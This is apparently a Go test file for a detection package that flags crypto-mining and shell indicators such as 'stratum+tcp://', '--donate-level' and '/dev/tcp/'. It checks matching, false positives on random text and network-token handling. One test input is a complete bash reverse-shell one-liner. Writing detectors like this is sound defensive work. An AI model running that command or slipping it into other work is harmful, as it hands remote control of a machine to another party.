package detect

import (
	"math/rand/v2"
	"strings"
	"testing"
)

// TestClues: what a text contains is never denied, and little else is let through.
func TestClues(t *testing.T) {
	t.Parallel()
	ms := newMarks("stratum+tcp://", "--donate-level", "/dev/tcp/")
	for _, text := range []string{"x STRATUM+TCP://pool.example:3333", "--donate-level=1", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "a--Donate-Level"} {
		var c clues
		c.add(ms, text)
		found := false
		for i, m := range ms.texts {
			if strings.Contains(strings.ToLower(text), m) {
				found = true
				if !c.maybe().has(i) {
					t.Errorf("%q is denied to contain %q", text, m)
				}
			}
		}
		if !found || c.maybe() == 0 {
			t.Errorf("%q: %b", text, c.maybe())
		}
	}
	rnd, passed := rand.New(rand.NewPCG(1, 2)), 0
	for range 1000 {
		var c clues
		b := make([]byte, 120)
		for i := range b {
			b[i] = "abcdefghijklmnopqrstuvwxyz0123456789/-_. ="[rnd.IntN(42)]
		}
		if c.add(ms, string(b)); c.maybe() != 0 {
			passed++
		}
	}
	if passed > 20 {
		t.Errorf("%d of 1000 texts by chance may contain one", passed)
	}
}

// TestMiningMarks: each of the marks is found, alone and behind others.
func TestMiningMarks(t *testing.T) {
	t.Parallel()
	if len(miningMarks.texts) > maxMark {
		t.Fatalf("%d marks have no room", len(miningMarks.texts))
	}
	var all clues
	for i, m := range miningMarks.texts {
		var c clues
		c.add(miningMarks, "x "+strings.ToUpper(m)+" y")
		all.add(miningMarks, m)
		if !c.maybe().has(i) || !all.maybe().has(i) {
			t.Errorf("%q isn't found", m)
		}
	}
}

func TestClues_Network(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]bool{"10.20": true, "x10.2": true, "a.1": false, "1.a": false, ".1": false, "": false, "v1.2.3": true, "1 .2": false} {
		var c clues
		if c.add(miningMarks, text); c.network != want {
			t.Errorf("%q: %v", text, c.network)
		}
	}
}
